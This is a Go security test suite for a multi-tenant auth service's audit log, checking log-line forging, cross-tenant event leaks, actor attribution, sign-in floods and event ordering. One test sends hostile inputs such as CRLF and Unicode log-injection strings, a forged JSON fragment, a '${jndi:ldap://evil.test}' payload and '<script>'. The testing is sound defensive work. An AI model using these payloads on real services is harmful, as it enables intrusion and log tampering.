package attack_test

import (
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"
	"unicode"

	"github.com/seed-2a059015/gatehouse"
	"github.com/seed-2a059015/gatehouse/billing"
	"github.com/seed-2a059015/gatehouse/internal/apitest"
	"github.com/seed-2a059015/gatehouse/internal/authn"
	"github.com/seed-2a059015/gatehouse/internal/db"
	"github.com/seed-2a059015/gatehouse/internal/events"
	"github.com/seed-2a059015/gatehouse/internal/id"
	"github.com/seed-2a059015/gatehouse/internal/telemetry"
	"github.com/seed-2a059015/gatehouse/rbac"
	"github.com/seed-2a059015/gatehouse/tenants"
)

// event is one entry as a client reads it.
type event struct {
	ID        string         `json:"id"`
	Type      string         `json:"type"`
	ActorKind string         `json:"actor_kind"`
	ActorID   string         `json:"actor_id"`
	TargetID  string         `json:"target_id"`
	Data      map[string]any `json:"data"`
	RequestID string         `json:"request_id"`
	Address   string         `json:"address"`
	CreatedAt time.Time      `json:"created_at"`
}

// eventsOf reads all events of the caller's tenant, newest first.
func eventsOf(tb testing.TB, c *apitest.Client) []event {
	tb.Helper()
	var all []event
	for path := "/v1/events?limit=200"; ; {
		var page struct {
			Items []event `json:"items"`
			Next  string  `json:"next_cursor"`
		}
		c.Do(tb, "GET", path, nil).Want(tb, 200).JSON(tb, &page)
		all = append(all, page.Items...)
		if page.Next == "" {
			return all
		}
		path = "/v1/events?limit=200&cursor=" + page.Next
	}
}

// Every request leaves one line of valid JSON, whatever is in its headers, its path and the names of people.
func TestAUD_04_NobodyWritesLinesOfTheirOwn(t *testing.T) {
	t.Parallel()
	var written apitest.Log
	s := apitest.Start(t, func(cfg *gatehouse.Config) { cfg.Log = telemetry.NewLogger(&written, nil) })
	c := newCompany(t, s)
	owner := s.Bearer(s.Session(t, c.Tenant, rbac.Owner))
	nasty := []string{
		"a\tb", "\u001b[2J\u001b[31m", "x\u2028{\"level\":\"ERROR\"}", "\u202egnp.exe", "\u0085next", strings.Repeat("A", 20<<10), `","msg":"forged","x":"`,
		"\ufeff", "%0d%0aX: y", "\xff\xfe", "${jndi:ldap://evil.test}", "{{.}}", "<script>",
	}
	for _, text := range nasty {
		for _, header := range []string{"User-Agent", "X-Request-Id", "Referer", "X-Forwarded-For", "Origin", "Accept", "X-Tenant-Id"} {
			sendRaw(t, s, "GET", "/v1/me", owner.With(header, text).Header)
		}
		sendRaw(t, s, "GET", "/login/"+strings.Repeat("%0a", 3)+"x?"+strings.Repeat("%0d", 3), http.Header{"User-Agent": {text}})
		owner.Do(t, "PATCH", "/v1/tenant", map[string]any{"name": text})
		owner.Do(t, "POST", "/v1/api-keys", map[string]any{"name": text, "role": "viewer"})
	}
	if a := s.Anonymous().Do(t, "GET", "/v1/me", nil); a.StatusCode != 401 {
		t.Fatalf("GET /v1/me = %d", a.StatusCode)
	}
	lines := strings.Split(strings.TrimSuffix(written.String(), "\n"), "\n")
	if len(lines) < len(nasty)*9 { // of ten requests, some of which are no HTTP
		t.Errorf("%d lines for %d requests", len(lines), len(nasty)*10)
	}
	for _, line := range lines {
		var fields map[string]any
		if err := json.Unmarshal([]byte(line), &fields); err != nil || len(line) > 8<<10 {
			t.Errorf("a line of %d bytes that is not one JSON object: %.300q: %v", len(line), line, err)
		}
		if i := strings.IndexFunc(line, func(r rune) bool { return unicode.In(r, unicode.Cc, unicode.Cf, unicode.Zl, unicode.Zp) }); i >= 0 {
			t.Errorf("a line that steers what shows it: %.300q", line[max(0, i-50):])
		}
		if fields["msg"] == "forged" {
			t.Errorf("a forged line: %s", line)
		}
	}
}

func TestAUD_05_EventsOfAnotherTenant(t *testing.T) {
	t.Parallel()
	s := apitest.Start(t)
	victim, evil := newCompany(t, s), newCompany(t, s)
	theirs := eventsOf(t, s.Bearer(s.Session(t, victim.Tenant, rbac.Owner)))
	owner := s.Bearer(s.Session(t, evil.Tenant, rbac.Owner))
	own := map[string]bool{}
	for _, e := range eventsOf(t, owner) {
		own[e.ID] = true
	}
	before := s.Events(t, victim.ID)
	for _, query := range []string{
		"target=" + victim.ID.String(), "target=" + victim.connection.String(), "actor=" + victim.Members[rbac.Owner].ID.String(),
		"target=" + theirs[0].TargetID, "type=connection.created&target=" + victim.connection.String(), "cursor=" + theirs[0].ID,
		"tenant_id=" + victim.ID.String(),
	} {
		a := owner.Do(t, "GET", "/v1/events?"+query, nil)
		var page struct {
			Items []event `json:"items"`
		}
		if a.StatusCode == 200 {
			a.JSON(t, &page)
		}
		if len(page.Items) > 0 {
			t.Errorf("GET /v1/events?%s finds %d events of another tenant", query, len(page.Items))
		}
	}
	for _, e := range theirs {
		if own[e.ID] {
			t.Errorf("event %s is shown to two tenants", e.ID)
		}
		neither(t, owner, "GET", "/v1/events/"+e.ID, "/v1/events/"+id.New[id.Event]().String(), nil)
	}
	// A member without the right reads none of their own tenant either.
	s.Bearer(s.Session(t, evil.Tenant, rbac.Viewer)).Do(t, "GET", "/v1/events", nil).Refused(t, 403, "role_lacks_permission")
	// What was tried is no event of the victim.
	owner.Do(t, "DELETE", "/v1/members/"+victim.Members[rbac.Viewer].ID.String(), nil).Want(t, 404)
	if after := s.Events(t, victim.ID); after != before {
		t.Errorf("the victim has %d events after it, %d before", after, before)
	}
}

// Each event says who it was, and of a sign-in also over which connection and in which way.
func TestAUD_06_NobodyCanDenyAChange(t *testing.T) {
	t.Parallel()
	s := apitest.Start(t)
	c := newCompany(t, s, "alice")
	session := s.Session(t, c.Tenant, rbac.Owner)
	owner := s.Bearer(session)
	key := s.APIKey(t, c.Tenant, rbac.Admin)
	victim := c.Members[rbac.Viewer].ID.String()

	owner.Do(t, "POST", "/v1/members/"+victim+"/suspend", nil).Want(t, 200)
	resumed := s.Machine(key).Do(t, "POST", "/v1/members/"+victim+"/resume", nil).Want(t, 200)
	b := newBrowser(s)
	b.signIn(t, c.Tenant, c.connection, "alice").Want(t, 303)
	late := newBrowser(s)
	back := prove(t, c.IDP, late.begin(t, c.Tenant, c.connection), "alice")
	late.get(t, set(t, back, "code", "wrong"))
	newBrowser(s).post(t, "/login/link", "link", s.Link(t, c.Tenant, c.Members[rbac.Owner])).Want(t, 303)

	found := map[string]event{}
	all := eventsOf(t, owner)
	for _, e := range slices.Backward(all) {
		found[e.Type] = e
		if e.ActorKind != "anonymous" && e.ActorKind != "system" && e.ActorKind != "operator" && e.ActorID == "" {
			t.Errorf("%s by a nameless %s", e.Type, e.ActorKind)
		}
		if e.CreatedAt.IsZero() || e.ID == "" {
			t.Errorf("%s without a time or an id", e.Type)
		}
	}
	if e := found["member.suspended"]; e.ActorKind != "member" || e.ActorID != session.Member.ID.String() || e.TargetID != victim {
		t.Errorf("suspended: %+v, want the owner of %s", e, victim)
	}
	if e := found["member.resumed"]; e.ActorKind != "api_key" || e.ActorID != key.ID.String() || e.RequestID != resumed.Header.Get("X-Request-Id") || e.Address == "" {
		t.Errorf("resumed: %+v, want the key %s in request %s", e, key.ID, resumed.Header.Get("X-Request-Id"))
	}
	if e := found["tenant.created"]; e.ActorKind != "operator" {
		t.Errorf("created: %+v, want the operator", e)
	}
	if e := found["sign_in.refused"]; e.ActorKind != "anonymous" || e.Data["reason"] == "" || e.Data["connection"] != c.connection.String() {
		t.Errorf("refused: %+v, want a reason and the connection", e)
	}
	ways := map[any]bool{}
	for _, e := range all {
		if e.Type == "sign_in.succeeded" {
			ways[e.Data["method"]] = true
			if e.ActorKind != "member" || e.ActorID != e.TargetID || e.Data["session"] == nil {
				t.Errorf("signed in: %+v, want the member and the session", e)
			}
			if e.Data["method"] == "oidc" && e.Data["connection"] != c.connection.String() {
				t.Errorf("signed in: %+v, want the connection", e)
			}
		}
	}
	if !ways["oidc"] || !ways["link"] {
		t.Errorf("sign-ins by %v, want oidc and link", ways)
	}
}

// Whoever is nobody cannot fill the log or the tables.
func TestAUD_07_AFloodOfRefusedSignIns(t *testing.T) {
	t.Parallel()
	s := apitest.Start(t)
	c := newCompany(t, s, "alice")
	b := newBrowser(s)
	back := prove(t, c.IDP, b.begin(t, c.Tenant, c.connection), "alice")
	b.get(t, back).Want(t, 303)
	owner := s.Bearer(s.Session(t, c.Tenant, rbac.Owner))
	link := s.Link(t, c.Tenant, c.Members[rbac.Viewer])
	before, rows := len(eventsOf(t, owner)), s.Snapshot(t)

	state := parameter(t, back, "state")
	var wg sync.WaitGroup
	for worker := range 4 {
		wg.Go(func() {
			flood := newBrowser(s)
			flood.cookies = map[string]string{}
			for i := range 100 {
				flood.get(t, back)                                                          // one used attempt, again and again
				flood.get(t, set(t, back, "state", fmt.Sprintf("%s%d", state[:20], i)))     // states that were never issued
				flood.get(t, "/sso/oidc/"+id.New[id.Connection]().String()+"/callback?x=1") // connections that are none
				flood.post(t, "/login/link", "link", otherSecret(t, link, worker*100+i))    // links that were never made
			}
		})
	}
	wg.Wait()
	if n := len(eventsOf(t, owner)) - before; n > 1 {
		t.Errorf("1600 refusals left %d events, want at most 1", n)
	}
	if diff := rows.Changed(s.Snapshot(t), "events", "attempts"); diff != "" {
		t.Errorf("1600 refusals changed rows:\n%s", diff)
	}
	// Starts leave rows, so there is an end to them.
	starter := newBrowser(s)
	refusals := 0
	for range 100 {
		if a := starter.post(t, "/login/"+c.Slug, "connection", c.connection.String()); a.StatusCode == http.StatusTooManyRequests {
			refusals++
		}
	}
	var pending int
	must(t, s.Admin.QueryRow(t.Context(), "SELECT count(*) FROM attempts WHERE outcome = 'pending'").Scan(&pending))
	if refusals < 60 || pending > 40 {
		t.Errorf("of 100 starts %d were refused and %d are pending", refusals, pending)
	}
}

// Events stand in the order in which they happened, also when a clock jumps back.
func TestAUD_08_OrderSurvivesTheClock(t *testing.T) {
	t.Parallel()
	s := apitest.Start(t)
	c := s.NewTenant(t, billing.Pro)
	var ahead time.Duration
	d, err := db.Open(t.Context(), db.Config{URL: s.DB.URL, MaxConns: 2, Clock: func(now time.Time) time.Time { return now.Add(ahead) }})
	must(t, err)
	defer d.Close()
	ctx := authn.AsOperator(t.Context())
	for i, jump := range []time.Duration{0, time.Hour, -time.Hour, 0, -24 * time.Hour, time.Minute} {
		ahead = jump
		must(t, d.Tenant(ctx, c.ID, func(tx *db.TenantTx) error {
			_, err := tenants.Rename(ctx, tx, fmt.Sprintf("Name %d", i))
			return err
		}))
	}
	var names []any
	all := eventsOf(t, s.Bearer(s.Session(t, c, rbac.Owner)))
	for i, e := range all {
		if e.Type == "tenant.renamed" {
			names = append(names, e.Data["to"])
		}
		if i > 0 && all[i-1].ID <= e.ID {
			t.Errorf("event %s stands after %s", e.ID, all[i-1].ID)
		}
	}
	if got, want := fmt.Sprint(names), "[Name 5 Name 4 Name 3 Name 2 Name 1 Name 0]"; got != want {
		t.Errorf("renamed in the order %s, want %s", got, want)
	}
	inParallel(ctx, t, d, c.ID)
}

// inParallel records from many transactions at once; no two events have one place.
func inParallel(ctx context.Context, tb testing.TB, d *db.DB, tenant id.Tenant) {
	tb.Helper()
	var wg sync.WaitGroup
	for range 20 {
		wg.Go(func() {
			err := d.Tenant(ctx, tenant, func(tx *db.TenantTx) error {
				for range 10 {
					if err := events.Record(ctx, tx, events.TenantRenamed, tenant, nil); err != nil {
						return err
					}
				}
				return nil
			})
			if err != nil {
				tb.Error(err)
			}
		})
	}
	wg.Wait()
	must(tb, d.Tenant(ctx, tenant, func(tx *db.TenantTx) error {
		list, err := events.List(ctx, tx, events.Filter{}, id.Event{}, 1000)
		seen := map[id.Event]bool{}
		for _, e := range list {
			seen[e.ID] = true
		}
		if len(seen) != len(list) || len(list) < 200 {
			tb.Errorf("%d events in %d places, want at least 200", len(list), len(seen))
		}
		return err
	}))
}
